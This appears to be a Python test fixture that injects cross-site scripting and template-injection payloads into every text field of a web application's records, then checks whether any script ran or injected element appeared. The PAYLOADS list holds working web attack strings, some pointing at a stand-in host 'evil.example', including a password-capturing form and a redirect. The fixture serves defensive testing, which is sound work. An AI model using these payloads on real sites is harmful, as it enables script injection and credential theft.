"""Texts that would run or draw something, put into every field that takes text (C01)."""

from typing import Any

from guanxi.kernel.actor import system_actor
from guanxi.kernel.errors import RuleViolation
from guanxi.surfaces.records import RecordType, get_record_type, record_types
from guanxi.surfaces.services import change_record, create_record
from tests.fixtures.company import AT, Belongings, Company

#: Every way out of the places where a text may stand: markup, attribute, script, style, address.
PAYLOADS = (
    "<script>hacked(1)</script>",
    "\"><img src=x onerror=hacked(2) class=injected>",
    "' onfocus=hacked(3) autofocus x='",
    "</textarea></title></style></script><svg onload=hacked(4) class=injected>",
    "<iframe class=injected srcdoc=\"<script>parent.hacked(5)</script>\"></iframe>",
    "<a class=injected href=\"javascript:hacked(6)\">x</a>",
    "{{constructor.constructor('hacked(7)')()}}${hacked(7)}<%= hacked(7) %>{% debug %}",
    "<b class=injected x-data x-init=\"hacked(8)\" hx-get=/ hx-trigger=load>",
    "<style class=injected>body{display:none}@import url(//evil.example/x.css)</style>",
    "<math><mtext><table><mglyph><style><!--</style><img class=injected title=\"--&gt;&lt;img\">",
    "<form class=injected action=//evil.example><input name=password><base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\"><link rel=stylesheet href=//evil>",
    "\\u003cscript\\u003ehacked(9)\\u003c/script\\u003e&lt;script&gt;hacked(9)&lt;/script&gt;",
    "javascript:hacked(10)//",
    "<!--><object class=injected data=javascript:hacked(11)><embed src=//evil.example>",
)  # fmt: skip
SHORT = "<b class=injected>"
SHORTEST = "<i a>"
#: Reads what happened in a page: scripts that ran, elements that nobody but an attacker makes,
#: and whether the texts are there to be read.
FOUND = """() => ({
    ran: window.ran,
    drawn: [...document.querySelectorAll(`.injected, iframe, object, embed, base, math, i[a],
        meta[http-equiv=refresh], [onerror], [onload], [onfocus], [x-init], [srcdoc],
        a[href^="javascript:" i], form[action*="evil"], link[href*="evil"],
        style:not([data-ours])`)].map((node) => node.outerHTML.slice(0, 120)),
    shows: /hacked|injected/.test(document.body.innerText),
})"""
LISTEN = "window.ran = []; window.hacked = (way) => window.ran.push(way);"


def everything() -> str:
    """All payloads, one below the other."""
    return "\n".join(PAYLOADS)


class Poison:
    """Puts the texts everywhere, each field another beginning, so that short ones meet all."""

    def __init__(self, company: Company) -> None:
        self.company, self.turn = company, 0

    def text(self, length: int) -> str:
        """The next text that fits."""
        self.turn += 1
        fitting = [p for p in PAYLOADS if not length or len(p) <= length]
        if fitting:
            return fitting[self.turn % len(fitting)]
        return SHORT if len(SHORT) <= length else SHORTEST[:length]

    def values(self, kind: RecordType) -> dict[str, Any]:
        """A poisoned value for every field of a type that takes text."""
        found = {}
        for field in kind.all_fields().values():
            if field.readonly or field.type not in {"text", "longtext", "code"}:
                continue
            many = field.type == "longtext"
            found[field.name] = everything() if many else self.text(field.max_length)
        return found

    def spread(self) -> int:
        """Poison every record of every type, field by field; the number of fields."""
        self.define_fields()
        told = 0
        for kind in record_types():
            if "version" in {column.name for column in kind.model._meta.concrete_fields}:
                told += self.poison(kind)
        return told

    def define_fields(self) -> None:
        """Custom fields of every kind, their names, helps and the labels of their choices too."""
        kind, system = get_record_type("surfaces.customfield"), system_actor()
        for key in ("customers.customer", "customers.contact", "customers.order"):
            for type_ in ("text", "longtext", "choice", "multichoice"):
                values = {
                    "name": self.text(60),
                    "name_en": self.text(60),
                    "record_key": key,
                    "slug": f"poison_{type_}",
                    "kind": type_,
                    "help": self.text(200),
                }
                if "choice" in type_:
                    values["choices"] = [{"value": "a", "label": p} for p in PAYLOADS[1:2]]
                create_record(kind, values, actor=system, at=AT)

    def poison(self, kind: RecordType) -> int:
        """Change some records of a type, one field at a time: some refuse, and say so."""
        told = 0
        for pk in self.chosen(kind):
            for name, value in self.values(kind).items():
                told += self.put(kind, pk, name, value)
        return told

    def chosen(self, kind: RecordType) -> list[Any]:
        """The records that the pages of the tests show: the administrator's, and the first."""
        part = kind.key.rpartition(".")[2]
        if Belongings.has(kind.key):
            own = (self.company.of(name, "own") for name in ("administrator", "sales"))
            return [getattr(each, part).pk for each in own]
        if kind.key == "people.user":
            return [self.company.users[name].pk for name in ("administrator", "sales", "head")]
        return list(kind.model._base_manager.order_by("pk").values_list("pk", flat=True)[:2])

    def put(self, kind: RecordType, pk: Any, name: str, value: str) -> bool:
        """Write one text through the service; whether it was taken."""
        version = kind.model._base_manager.get(pk=pk).version
        try:
            change_record(kind, pk, {name: value}, version=version, actor=system_actor(), at=AT)
        except RuleViolation:
            return False
        return True
